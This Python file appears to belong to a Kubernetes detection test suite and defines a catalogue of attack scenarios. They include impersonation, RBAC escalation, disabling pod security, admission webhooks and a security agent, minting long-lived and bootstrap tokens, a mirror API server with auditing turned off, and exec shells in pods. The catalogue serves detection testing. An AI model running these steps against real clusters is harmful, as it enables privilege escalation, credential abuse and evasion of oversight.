"""What no public rule set covers (catalogue N01 to N34): rights, admission, identities, tokens, reading."""

from cluster import objects
from cluster.actors import Client
from cluster.scenarios.attacks.credentials import TOKEN
from cluster.scenarios.attacks.escalation import ROLE, allow, as_somebody, bind
from cluster.scenarios.attacks.execution import CREATE_POD, create_pod, hold, through_kubelet
from cluster.scenarios.attacks.moves import (
    ACCOUNT,
    ADMISSION,
    BAD_TOKEN,
    LIMITED,
    MASTERS,
    NOBODY,
    NODE,
    RBAC,
    SYSTEM,
    Attack,
    Move,
    V,
    delete,
    get,
    kubectl,
    patch,
    post,
    shell,
    together,
)
from cluster.scenarios.attacks.persistence import mirror_pod
from cluster.script import Decides

BINDING = Decides(("create",), "clusterrolebindings")
EXEC = Decides(("get", "create"), "pods", "exec")
NAMESPACE = Decides(("patch",), "namespaces")
HOOK = f"{ADMISSION}/mutatingwebhookconfigurations/guard"
POLICY = f"{ADMISSION}/validatingadmissionpolicybindings/no-latest"
AGENT = "/apis/apps/v1/namespaces/security/daemonsets/agent"
WITHOUT_AUDIT = ["kube-apiserver", "--anonymous-auth=true", "--authorization-mode=AlwaysAllow", "--audit-log-path="]
KINDS_OF_TOKENS: tuple[tuple[str, dict[str, str]], ...] = (
    ("kubernetes.io/service-account-token", {"kubernetes.io/service-account.name": "web"}),
    ("bootstrap.kubernetes.io/token", {}),
)
REVIEW = {
    "apiVersion": "authorization.k8s.io/v1",
    "kind": "SubjectAccessReview",
    "spec": {"user": "priya@example.com", "resourceAttributes": {"verb": "get", "resource": "secrets"}},
}
LONG_TOKEN = {**TOKEN, "spec": {"expirationSeconds": 604800, "audiences": ["https://elsewhere.example.net"]}}
PROXIES = tuple(f"{V}/{path}/proxy/metrics" for path in ("pods/front:8098", "services/front:8098"))


def label(name: str, value: str | None) -> Move:
    """Set or remove the level that a namespace enforces."""
    key = "pod-security.kubernetes.io/enforce"
    return patch(f"/api/v1/namespaces/{name}", {"metadata": {"labels": {key: value}}})


def token_secret(number: int) -> Move:
    """Make a Secret that holds, or becomes, a token that does not expire."""
    kind, annotations = KINDS_OF_TOKENS[number]
    document = objects.secret(f"n17-{number}", "kube-system" if number else "victim", {}, kind)
    head = {**objects.metadata(f"n17-{number}"), "annotations": annotations}
    data = {"token-id": "n17abc", "token-secret": "0123456789abcdef", "usage-bootstrap-authentication": "true"}
    named = {**head, "name": "bootstrap-token-n17abc"} if number else head
    place = SYSTEM if number else V
    return post(f"{place}/secrets", {**document, "metadata": named, "stringData": data if number else {}})


def guess_names(client: Client) -> None:
    """Try names of Secrets until one is there."""
    for number in range(15):
        client.request("GET", f"{V}/secrets/web-token-{client.actor.address[-1]}{number:04x}")


def many_pods(client: Client) -> None:
    """Run the same command in five pods."""
    for number in (0, 1, 3, 4, 5):
        client.kubectl("exec", f"web-{number}", "--namespace", "victim", "--", "hostname", check=False)


ATTACKS = (
    Attack(
        "N01",
        "impersonation refused",
        Decides(code=403),
        together(*(as_somebody(f"{V}/pods", User=f"admin-{number}") for number in range(4))),
        NOBODY,
    ),
    Attack(
        "N02",
        "impersonation of a person",
        Decides(("list",), "pods"),
        as_somebody(f"{V}/pods", User="anna@example.com"),
    ),
    Attack(
        "N02",
        "impersonation with kubectl",
        Decides(("list",), "pods"),
        kubectl("get", "pods", "-n", "victim", "--as=anna@example.com", "--as-group=developers", "--as-uid=1234"),
    ),
    Attack(
        "N03",
        "escalation refused",
        Decides(("create",), "clusterroles", code=403),
        allow("n03", objects.rule(["*"], ["*"], ["*"])),
        LIMITED,
    ),
    Attack(
        "N03",
        "binding refused",
        Decides(("create",), "clusterrolebindings", code=403),
        bind("n03", "cluster-admin", objects.user("n03")),
        LIMITED,
    ),
    Attack(
        "N04",
        "role to issue and sign",
        ROLE,
        allow(
            "n04",
            objects.rule([""], ["serviceaccounts/token"], ["create"]),
            objects.rule(["certificates.k8s.io"], ["signers"], ["approve", "sign"]),
        ),
        level="Request",
    ),
    Attack(
        "N05",
        "aggregated into view",
        ROLE,
        post(
            f"{RBAC}/clusterroles",
            {
                **objects.role("n05", [objects.rule([""], ["secrets"], ["get"])]),
                "metadata": objects.metadata("n05", labels={"rbac.authorization.k8s.io/aggregate-to-view": "true"}),
            },
        ),
        level="Request",
    ),
    Attack(
        "N06",
        "binding of all service accounts",
        BINDING,
        bind("n06", "view", objects.group("system:serviceaccounts")),
        level="Request",
    ),
    Attack("N07", "certificate of system:masters", Decides(), kubectl("get", "secrets", "-n", "victim"), MASTERS),
    Attack(
        "N08",
        "lock-out",
        Decides(("delete",)),
        together(*(delete(f"{RBAC}/namespaces/victim/rolebindings/team-{number}") for number in range(5))),
    ),
    Attack("N09", "pod security lowered", NAMESPACE, label("guarded", "privileged"), level="Request"),
    Attack("N09", "pod security removed", NAMESPACE, label("guarded", None), level="Request"),
    Attack(
        "N10",
        "pod refused by pod security",
        Decides(("create",), "pods", code=403),
        post("/api/v1/namespaces/strict/pods", objects.pod("n10", "strict", hostPID=True)),
    ),
    Attack(
        "N10",
        "violation that is only noted",
        Decides(("create",), "pods"),
        post("/api/v1/namespaces/noted/pods", objects.pod("n10", "noted", hostPID=True)),
    ),
    Attack(
        "N11",
        "admission policy softened",
        Decides(("patch", "delete"), "validatingadmissionpolicybindings"),
        together(patch(POLICY, {"spec": {"validationActions": ["Audit"]}}), delete(POLICY)),
    ),
    Attack(
        "N12",
        "webhook weakened",
        Decides(("patch",), "mutatingwebhookconfigurations"),
        patch(HOOK, [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}], "json"),
        level="Request",
    ),
    Attack(
        "N13",
        "security agent switched off",
        Decides(("patch", "delete"), "daemonsets"),
        together(patch(AGENT, {"spec": {"template": {"spec": {"nodeSelector": {"no": "node"}}}}}), delete(AGENT)),
    ),
    Attack(
        "N14",
        "node's certificate in kubectl",
        Decides(),
        together(
            kubectl("get", "secrets", "-n", "victim"),
            kubectl("get", "node", "node-1"),
            kubectl("label", "node", "node-2", "a=b"),
        ),
        NODE,
    ),
    Attack("N15", "service account in kubectl", Decides(), kubectl("get", "pods", "-n", "victim"), ACCOUNT),
    Attack(
        "N16",
        "long token of another's account",
        Decides(("create",), "serviceaccounts", "token"),
        post(f"{SYSTEM}/serviceaccounts/namespace-controller/token", LONG_TOKEN),
    ),
    Attack(
        "N17",
        "token Secrets",
        Decides(("create",), "secrets"),
        together(token_secret(0), token_secret(1)),
        level="Request",
    ),
    Attack(
        "N18",
        "cloud role on a service account",
        Decides(("patch",), "serviceaccounts"),
        patch(
            f"{V}/serviceaccounts/web",
            {"metadata": {"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::111122223333:role/admin"}}},
        ),
        level="Request",
    ),
    Attack("N19", "proxy to pods and services", Decides(("get",)), together(*(get(path) for path in PROXIES))),
    Attack(
        "N19",
        "kubelet's other endpoints",
        Decides(("get",), "nodes", "proxy"),
        through_kubelet("/stats/summary", "/configz", "/logs/"),
    ),
    Attack(
        "N20",
        "exec without an upgrade, with the right to read",
        Decides(("get",), "pods", "exec"),
        get(f"{V}/pods/web-0/exec?command=id&stdout=true"),
        LIMITED,
    ),
    Attack("N21", "shells in many pods", EXEC, many_pods, detection="execution/pod_exec"),
    Attack(
        "N21",
        "a session that is held",
        EXEC,
        hold("exec", "web-0", "-n", "victim", "--", "sleep", "30"),
        detection="execution/pod_exec",
    ),
    Attack(
        "N22",
        "debugging a node",
        CREATE_POD,
        kubectl("debug", "node/node-2", "-n", "victim", "--image=busybox:1.36", "--attach=false"),
        level="Request",
    ),
    Attack(
        "N23",
        "API server without audit",
        Decides(("create",), "pods"),
        mirror_pod("kube-apiserver", WITHOUT_AUDIT),
        NODE,
        level="Request",
    ),
    Attack(
        "N25",
        "backend that breaks off",
        Decides(("get",), "services", "proxy"),
        get(f"{V}/services/broken:8099/proxy/"),
    ),
    Attack(
        "N27",
        "forwarded-for",
        Decides(),
        get(f"{V}/pods", X_Forwarded_For="10.20.5.20, 8.8.8.8", X_Real_Ip="10.20.5.20"),
    ),
    Attack(
        "N28",
        "burst of 401",
        Decides(code=401),
        together(*(get(f"{V}/pods?limit={number}") for number in range(12))),
        BAD_TOKEN,
    ),
    Attack("N30", "Secret names guessed", Decides(("get",), "secrets", code=404), guess_names),
    Attack("N31", "Secrets watched", Decides(("watch",), "secrets"), lambda client: client.watch(f"{V}/secrets", 3)),
    Attack(
        "N31", "releases harvested", Decides(("list",), "secrets"), get("/api/v1/secrets?labelSelector=owner%3Dhelm")
    ),
    Attack(
        "N32",
        "others' rights",
        Decides(("create",), "subjectaccessreviews"),
        post("/apis/authorization.k8s.io/v1/subjectaccessreviews", REVIEW),
    ),
    Attack(
        "N39",
        "other ways out",
        CREATE_POD,
        create_pod(
            "n39",
            hostUsers=False,
            securityContext={
                "runAsUser": 0,
                "seccompProfile": {"type": "Unconfined"},
                "sysctls": [{"name": "kernel.shm_rmid_forced", "value": "1"}],
            },
            containers=[
                objects.container(
                    "n39", ports=[{"containerPort": 80, "hostPort": 80}], securityContext={"procMount": "Default"}
                )
            ],
        ),
        level="Request",
    ),
    Attack("N20", "exec by kubectl with the right to read", Decides(("get",), "pods", "exec"), shell("id"), LIMITED),
)
